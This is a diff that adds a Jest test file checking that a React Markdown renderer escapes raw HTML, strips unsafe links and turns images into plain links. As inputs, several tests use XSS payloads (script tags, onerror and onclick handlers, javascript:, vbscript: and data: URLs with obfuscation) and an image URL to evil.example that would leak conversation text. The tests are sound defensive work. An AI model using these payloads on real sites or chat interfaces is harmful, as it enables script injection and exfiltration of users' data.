@@ -1,0 +1,69 @@
+import { createElement } from 'react';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { Markdown } from './Markdown';
+
+/** The rendered HTML without emotion's <style> elements. */
+const render = (text: string) =>
+  renderToStaticMarkup(createElement(Markdown, { text })).replace(/<style[^>]*>.*?<\/style>/gs, '');
+
+describe('Markdown', () => {
+  it('renders emphasis, lists, tables, inline code and links', () => {
+    const html = render(
+      '**Akwaaba** and _ɛte sɛn_\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nUse `npm test`, see [docs](https://kasa.example/docs).',
+    );
+    expect(html).toContain('<strong>Akwaaba</strong>');
+    expect(html).toContain('<em>ɛte sɛn</em>');
+    expect(html).toMatch(/<ul[^>]*><li>one<\/li><li>two<\/li><\/ul>/);
+    expect(html).toContain('<table');
+    expect(html).toContain('<code>npm test</code>');
+    expect(html).toContain(
+      '<a href="https://kasa.example/docs" target="_blank" rel="noopener noreferrer nofollow">docs</a>',
+    );
+  });
+
+  it('renders a fenced code block with its language and a Copy code button, the code as text', () => {
+    const html = render('```ts\nconst a = 1 < 2 && "<b>";\n```');
+    expect(html).toContain('<span>ts</span>');
+    expect(html).toContain('Copy code');
+    expect(html).toContain('<code data-language="ts">const a = 1 &lt; 2 &amp;&amp; &quot;&lt;b&gt;&quot;;</code>');
+  });
+
+  it('shows raw HTML as text instead of creating elements', () => {
+    const html = render(
+      'Hi <img src=x onerror="alert(1)"> <b>bold</b>\n\n<script>alert(2)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n<div onclick="alert(3)">x</div>',
+    );
+    expect(html).not.toMatch(/<img/i);
+    expect(html).not.toMatch(/<script/i);
+    expect(html).not.toMatch(/<iframe/i);
+    expect(html).not.toMatch(/<b>/i);
+    expect(html).not.toMatch(/<div onclick/i);
+    expect(html).not.toMatch(/ on[a-z]+="/i);
+    expect(html).toContain('&lt;script&gt;alert(2)&lt;/script&gt;');
+    expect(html).toContain('&lt;b&gt;bold&lt;/b&gt;');
+  });
+
+  it('keeps the text of javascript:, vbscript: and data: links but drops the link, also behind entities or case', () => {
+    const html = render(
+      '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:msgbox(1)) [d](data:text/html;base64,PHNjcmlwdD4=) [e](java&#9;script:alert(1)) <javascript:alert(1)>',
+    );
+    expect(html).not.toMatch(/href="\s*(javascript|vbscript|data):/i);
+    expect(html).not.toMatch(/javascript:alert\(1\)"/i);
+    expect(html).not.toMatch(/<a[\s>]/i);
+    // The link texts stay readable, as plain text.
+    expect(html).toContain('<p>a b c d e javascript:alert(1)</p>');
+  });
+
+  it('turns images into links instead of loading them', () => {
+    const html = render('![secret](https://evil.example/leak?q=conversation)');
+    expect(html).not.toMatch(/<img/i);
+    expect(html).toContain('<a href="https://evil.example/leak?q=conversation"');
+    expect(html).toContain('Image: secret');
+  });
+
+  it('renders partial markdown (a reply still being written) without throwing', () => {
+    for (const text of ['**unclosed', '```py\nprint(1)', '| a | b |\n|--', '[link](https://kasa', '']) {
+      expect(() => render(text)).not.toThrow();
+    }
+    expect(render('```py\nprint(1)')).toContain('print(1)');
+  });
+});
